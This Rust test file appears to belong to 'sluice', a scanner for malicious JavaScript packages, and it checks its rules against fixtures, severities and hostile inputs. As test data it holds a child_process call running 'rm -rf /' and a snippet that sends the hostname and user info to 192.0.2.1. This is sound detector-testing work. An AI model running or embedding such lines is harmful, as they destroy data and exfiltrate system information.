//! Table-driven tests for the JavaScript rules: every rule has a positive
//! fixture (`JS2nn.js`, findings exactly on the lines after `// ruleid:`)
//! and a negative one (`JS2nn_ok.js`, no finding of that rule).

use std::collections::BTreeSet;

use sluice_analyze::{FileRole, SourceFile, javascript};

const DIR: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/resources/fixtures/javascript");

/// (fixture, role, rule).
const TABLE: &[(&str, FileRole, &str)] = &[
    ("JS201.js", FileRole::Library, "JS201"),
    ("JS201_ok.js", FileRole::Install, "JS201"),
    ("JS202.js", FileRole::Library, "JS202"),
    ("JS202_ok.js", FileRole::Install, "JS202"),
    ("JS203.js", FileRole::Library, "JS203"),
    ("JS203_ok.js", FileRole::Install, "JS203"),
    ("JS204.js", FileRole::Import, "JS204"),
    ("JS204_ok.js", FileRole::Import, "JS204"),
    ("JS205.js", FileRole::Library, "JS205"),
    ("JS205_ok.js", FileRole::Import, "JS205"),
    ("JS206.js", FileRole::Library, "JS206"),
    ("JS206_ok.js", FileRole::Install, "JS206"),
    ("JS207.js", FileRole::Library, "JS207"),
    ("JS207_ok.js", FileRole::Install, "JS207"),
    ("JS208.js", FileRole::Library, "JS208"),
    ("JS208_ok.js", FileRole::Install, "JS208"),
    ("JS209.js", FileRole::Install, "JS209"),
    ("JS209_ok.js", FileRole::Install, "JS209"),
    ("JS210.js", FileRole::Library, "JS210"),
    ("JS210_ok.js", FileRole::Install, "JS210"),
    ("JS203_stores.js", FileRole::Install, "JS203"),
    ("JS203_imds.js", FileRole::Library, "JS203"),
    ("JS211.js", FileRole::Install, "JS211"),
    ("JS211_service.js", FileRole::Library, "JS211"),
    ("JS211_ok.js", FileRole::Import, "JS211"),
    ("JS212.js", FileRole::Install, "JS212"),
    ("JS212.js", FileRole::Library, "JS212"),
    ("JS212_ok.js", FileRole::Install, "JS212"),
    ("JS213.js", FileRole::Library, "JS213"),
    ("JS213_shell.js", FileRole::Install, "JS213"),
    ("JS213_ok.js", FileRole::Library, "JS213"),
    ("JS214.js", FileRole::Install, "JS214"),
    ("JS214.js", FileRole::Library, "JS214"),
    ("JS214_ok.js", FileRole::Install, "JS214"),
    // Library code sending local data to an ordinary host is not flagged.
    ("JS211.js", FileRole::Library, "-JS211"),
    // Install activity only counts in install scripts.
    ("JS209.js", FileRole::Library, "-JS209"),
];

/// Lines that follow a `// ruleid: CODE` comment.
fn expected_lines(text: &str, code: &str) -> BTreeSet<u32> {
    let tag = format!("// ruleid: {code}");
    text.lines()
        .enumerate()
        .filter(|(_, l)| l.trim() == tag)
        .map(|(i, _)| i as u32 + 2)
        .collect()
}

#[test]
fn rules_match_their_fixtures() {
    let mut failures = Vec::new();
    for &(name, role, rule) in TABLE {
        let (rule, none_expected) = match rule.strip_prefix('-') {
            Some(r) => (r, true),
            None => (rule, false),
        };
        let path = format!("{DIR}/{name}");
        let text = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
        let file = SourceFile {
            path: name,
            text: &text,
            role,
        };
        let findings = javascript::check(&file);
        let got: BTreeSet<u32> = findings
            .iter()
            .filter(|f| f.rule.as_str() == rule)
            .map(|f| f.line.unwrap_or(0))
            .collect();
        let want = if none_expected {
            BTreeSet::new()
        } else {
            expected_lines(&text, rule)
        };
        if name.ends_with("_ok.js") || none_expected {
            assert!(
                want.is_empty(),
                "{name}: a negative fixture has ruleid lines"
            );
        } else {
            assert!(
                !want.is_empty(),
                "{name}: a positive fixture without ruleid lines"
            );
        }
        if got != want {
            failures.push(format!(
                "{name} ({role:?}) {rule}: want lines {want:?}, got {got:?}\n  {findings:#?}"
            ));
        }
        for f in findings.iter().filter(|f| f.rule.as_str() == rule) {
            assert_eq!(f.file.as_deref(), Some(name));
            assert!(
                f.column.is_some() && f.excerpt.is_some(),
                "{name}: finding without column/excerpt"
            );
            assert_eq!(
                f.install_time,
                role.runs_unasked(),
                "{name}: install_time follows the role"
            );
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn every_rule_has_fixtures() {
    for (code, _) in javascript::RULES {
        assert!(
            std::path::Path::new(&format!("{DIR}/{code}.js")).exists(),
            "{code}.js missing"
        );
        assert!(
            std::path::Path::new(&format!("{DIR}/{code}_ok.js")).exists(),
            "{code}_ok.js missing"
        );
        assert!(
            TABLE
                .iter()
                .any(|(n, _, r)| *r == *code && n.starts_with(code)),
            "{code} not in the table"
        );
    }
}

#[test]
fn severities_follow_the_role() {
    let text = std::fs::read_to_string(format!("{DIR}/JS204.js")).unwrap();
    let lib = javascript::check(&SourceFile {
        path: "a.js",
        text: &text,
        role: FileRole::Library,
    });
    let imp = javascript::check(&SourceFile {
        path: "a.js",
        text: &text,
        role: FileRole::Import,
    });
    let max = |v: &[sluice_model::Finding]| v.iter().map(|f| f.severity).max();
    assert_eq!(max(&lib), Some(sluice_model::Severity::High));
    assert_eq!(max(&imp), Some(sluice_model::Severity::Critical));
}

#[test]
fn runtime_install_severity() {
    let text = std::fs::read_to_string(format!("{DIR}/JS212.js")).unwrap();
    let sev = |role| {
        javascript::check(&SourceFile {
            path: "a.js",
            text: &text,
            role,
        })
        .into_iter()
        .filter(|f| f.rule.as_str() == "JS212")
        .map(|f| (f.line.unwrap_or(0), f.severity))
        .collect::<Vec<_>>()
    };
    use sluice_model::Severity::{Critical, High, Low, Medium};
    // A URL, a named package, git, a computed name.
    assert_eq!(
        sev(FileRole::Install),
        vec![(5, Critical), (7, High), (9, Critical), (12, Medium)]
    );
    assert_eq!(
        sev(FileRole::Library),
        vec![(5, High), (7, Low), (9, High), (12, Low)]
    );
}

#[test]
fn hostile_input_does_not_panic() {
    let cases = [
        String::new(),
        "\u{0}\u{1}\u{2}".to_owned(),
        "(".repeat(50_000),
        "a.".repeat(30_000) + "b()",
        format!("x = '{}", "\\".repeat(1000)),
        "require(".to_owned(),
        "const {a: {b: {c}}} = require('child_process'); c('rm -rf /');".to_owned(),
        "eval(".repeat(5000),
        "`${`${`${".repeat(2000),
        // One huge template referenced from many calls: bounded work.
        format!(
            "const t = `{}`;\n{}",
            "${a}".repeat(20_000),
            "require('child_process').exec(t);\n".repeat(3_000)
        ),
    ];
    for text in &cases {
        let _ = javascript::check(&SourceFile {
            path: "x.js",
            text,
            role: FileRole::Install,
        });
    }
}

#[test]
fn minified_bundles_cap_label_flows() {
    // The same recon → network flow, once readable and once as a one-line
    // bundle: the bundle's finding is reported but cannot decide alone.
    let body = "var o=require('os'),h=require('https');var d=JSON.stringify({a:o.hostname(),b:o.userInfo()});h.request({host:'192.0.2.1'}).end(d);";
    let readable = javascript::check(&SourceFile {
        path: "a.js",
        text: body,
        role: FileRole::Library,
    });
    let bundle = format!("{};{body}", "var x=1".repeat(3000));
    let minified = javascript::check(&SourceFile {
        path: "a.js",
        text: &bundle,
        role: FileRole::Library,
    });
    let sev = |v: &[sluice_model::Finding]| {
        v.iter()
            .find(|f| f.rule.as_str() == "JS201")
            .map(|f| (f.severity, f.confidence))
    };
    assert_eq!(
        sev(&readable),
        Some((sluice_model::Severity::High, sluice_model::Confidence::High))
    );
    assert_eq!(
        sev(&minified),
        Some((
            sluice_model::Severity::Medium,
            sluice_model::Confidence::Low
        ))
    );
}
